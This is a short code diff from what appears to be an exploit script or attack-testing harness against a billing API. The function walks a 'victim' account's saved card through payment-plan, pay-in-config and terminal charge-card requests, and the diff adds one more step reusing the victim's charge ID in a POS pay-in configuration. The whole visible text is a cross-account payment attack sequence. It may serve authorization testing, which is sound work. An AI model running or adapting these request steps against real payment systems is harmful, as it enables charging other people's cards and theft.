@@ -54,6 +54,8 @@ def _walk_cards(victim: Any, other: Any) -> Iterator[Step]:
         "installmentAmount": 1,
     }
     stolen = {"charges": [], "paymentPlan": agreed, "rainforestPaymentMethodId": victim.charge}
+    planned = {"charges": [{"id": victim.charge}], "paymentMedium": "POS", "paymentPlan": agreed | {"initialAmount": 1}}
+    yield "POST /billing/payment-plan/payin-config", planned
     yield "POST /billing/payment-plan/create-with-charges", stolen
     yield "DELETE /billing/payment-plan/{charge_id}", None
     yield f"POST {terminal}/charge-card/{{payment_method_id}}", {"payinConfigId": victim.charge}
